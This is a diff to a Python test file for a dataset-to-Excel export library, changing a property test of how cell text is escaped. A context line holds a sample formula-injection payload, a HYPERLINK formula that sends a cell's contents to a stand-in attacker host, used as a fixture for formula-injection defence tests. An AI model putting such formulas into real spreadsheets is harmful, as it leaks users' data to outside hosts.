@@ -14,7 +14,7 @@ openpyxl = pytest.importorskip("openpyxl")
 
 from softenv_core.cli.main import main  # noqa: E402
 from softenv_core.io.dataset_files import load_dataset  # noqa: E402
-from softenv_core.io.workbook_text import formula_like, shown, xlsx_cell, xlsx_row  # noqa: E402
+from softenv_core.io.workbook_text import RISKY_FIRST, formula_like, shown  # noqa: E402
 
 EXAMPLE = Path(__file__).resolve().parents[1] / "examples" / "small-dataset.json"
 LINK = '=HYPERLINK("http://evil.example/?"&B3,"点此查看")'
@@ -111,10 +111,7 @@ def test_shown_keeps_line_breaks_and_shows_what_xml_cannot_hold():
 
 
 @given(st.text(max_size=12))
-def test_the_row_fast_path_agrees_with_the_cell(text):
-    wb = openpyxl.Workbook(write_only=True)
-    ws = wb.create_sheet("t")
-    (fast,) = xlsx_row(ws, [text])
-    slow = xlsx_cell(ws, text)
-    assert getattr(fast, "value", fast) == getattr(slow, "value", slow)
-    assert hasattr(fast, "value") == hasattr(slow, "value")
+def test_the_writers_fast_path_writes_only_text_shown_and_inert_as_it_is(text):
+    # io/workbook_write writes such text directly, without shown() and formula_like().
+    if text.isprintable() and text[:1] not in RISKY_FIRST:
+        assert shown(text) == text and not formula_like(text)
